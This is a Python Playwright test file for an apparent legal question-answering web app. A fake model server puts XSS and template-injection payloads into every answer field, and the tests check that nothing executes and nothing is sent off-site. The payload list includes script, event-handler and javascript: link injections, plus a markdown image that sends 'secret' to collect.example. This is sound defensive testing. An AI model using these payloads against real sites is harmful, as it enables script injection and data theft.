"""A model that writes script, markup and links into every field of its answer: a reader sees text, and nothing runs."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.conftest import running
from tests.browser.test_ask import ANSWER_MS, QUESTION
from tests.model_server import KEY, Asked, ModelServer, Reply, model_server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ATTACKS = (
    '<script>window.ran="script"</script>',
    '<img src=x onerror="window.ran=1">',
    '<svg onload="window.ran=1"><animate onbegin=alert(1)>',
    "[read more](javascript:alert(1))",
    "![map](https://collect.example/?q=secret)",
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    "<!-- --><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "</li></ol></template></script><style>body{display:none}</style>",
    '"><input autofocus onfocus=alert(1)>',
    "{{7*7}}{% debug %}${7*7}",
    "```" + "- " * 2_000,
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e &lt;script&gt;alert(1)&lt;/script&gt;",
)
CREATED = (
    "main :is(script, img, svg, iframe, style, input[autofocus], object, embed, [onerror], [onload], [onfocus],"
    " a[href^='javascript:' i], a[href^='data:' i], a[href*='collect.example'])"
)
QUOTE = re.compile(r"The processor shall notify the controller [^.\n]*\.")


@pytest.fixture(scope="module")
def models() -> Iterator[ModelServer]:
    with model_server(hostile) as server:
        yield server


@pytest.fixture(scope="module")
def address(law: Path, models: ModelServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server whose answers, keywords and judgements come from a hostile model with a hostile name."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(law, data, ignore=shutil.ignore_patterns("queue", "*.log", "*.pid"))
    given = {"LAWQA_MODEL_URL": models.url, "LAWQA_MODEL": ATTACKS[1], "LAWQA_MODEL_KEY": KEY}
    with running(data, **given) as server:
        yield server


def hostile(asked: Asked) -> Reply:
    """Whatever is asked for, with an attack in every text; in pieces of three characters, so that tags are cut."""
    properties = asked.schema["properties"]
    if "claims" in properties:
        return Reply(text=json.dumps(_answer(asked)), piece=3)
    if "support" in properties:
        return Reply(text=json.dumps({"words": ATTACKS[0], "support": "supported"}))
    return Reply(text=json.dumps({name: _filled(schema) for name, schema in properties.items()}))


def _filled(schema: dict[str, Any]) -> object:
    """A value of the schema's type that is an attack where it can be."""
    kinds = schema.get("type")
    if "array" in (kinds if isinstance(kinds, list) else [kinds]):
        return list(ATTACKS[:3])
    return ATTACKS[0]


def _answer(asked: Asked) -> dict[str, Any]:
    names = re.findall(r"^\S+ (D\d+) begins$", asked.user, re.MULTILINE) or ["D1"]
    found = QUOTE.search(asked.user)
    right = found[0] if found else ""
    block = asked.user[: found.start()] if found else ""
    own = re.findall(r"^\S+ (D\d+) begins$", block, re.MULTILINE)[-1:] or names[:1]
    claims = [{"citations": [{"source": own[0], "quote": right}], "text": right}]
    for at, attack in enumerate(ATTACKS[:7]):
        claims.append(
            {
                "citations": [_cited(at, own[0], right, attack)],
                "text": f"{right} {attack}" if at % 2 else attack,
            }
        )
    opinions = [
        {"source": name, "use": "set_aside", "reason": ATTACKS[at % len(ATTACKS)]}
        for at, name in enumerate(names)
    ]
    return {"claims": claims, "sources": opinions}


def _cited(at: int, source: str, quote: str, attack: str) -> dict[str, str]:
    """The attack in the source's id, in the quote, or beside a true quote."""
    return [
        {"source": f"{source}{attack}", "quote": quote},
        {"source": source, "quote": f"{quote} {attack}"},
        {"source": source, "quote": quote},
    ][at % 3]


@pytest.fixture
def watched(page: Page, address: str) -> Iterator[Page]:
    """A page in which no dialog may open and from which no request may leave for elsewhere."""
    said: list[str] = []
    asked: list[str] = []

    def refuse(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    def note(request: Request) -> None:
        asked.append(request.url)

    page.on("dialog", refuse)
    page.on("request", note)
    yield page
    assert said == []
    own = urlsplit(address).netloc
    assert [url for url in asked if urlsplit(url).netloc != own] == []


def unharmed(page: Page) -> None:
    page.wait_for_load_state()
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert page.locator(CREATED).count() == 0
    expect(page.locator("body")).to_be_visible()


def open_everything(page: Page) -> str:
    """All that can be unfolded, as a reader sees it."""
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
    return page.locator("#answer-body").inner_text()


def test_nothing_of_a_hostile_answer_runs_or_leaves(watched: Page, address: str) -> None:
    watched.goto(address)
    watched.get_by_label("Your question").fill(QUESTION)
    watched.get_by_role("button", name="Ask", exact=True).click()
    expect(watched.locator("#answer-body.finished")).to_be_visible(timeout=ANSWER_MS)
    unharmed(watched)
    streamed = open_everything(watched)
    assert QUOTE.search(streamed), "the one right sentence is shown"
    assert "<script>" in streamed, "what was withheld is shown as text"
    unharmed(watched)
    answer = watched.url.split("?")[0].split("#")[0].rstrip("/")
    _is_harmless_when_read_again(watched)
    _is_harmless_in_the_history(watched, address)
    _is_harmless_on_paper_and_in_files(watched, answer)


def _is_harmless_when_read_again(page: Page) -> None:
    response = page.reload()
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe-inline" not in policy
    unharmed(page)
    assert "<script>" in open_everything(page)
    unharmed(page)


def _is_harmless_in_the_history(page: Page, address: str) -> None:
    page.goto(f"{address}/questions/")
    expect(page.locator("main a[href^='/answers/']").first).to_be_visible()
    unharmed(page)


def _is_harmless_on_paper_and_in_files(page: Page, answer: str) -> None:
    paper = page.goto(f"{answer}/print")
    assert paper is not None
    assert paper.ok
    assert "<script>window.ran" not in paper.text()
    unharmed(page)
    for file in (".json", "/record.json", ".docx"):
        exported = page.request.get(answer + file)
        assert exported.ok, file
        assert exported.headers["x-content-type-options"] == "nosniff"
        assert "text/html" not in exported.headers["content-type"]
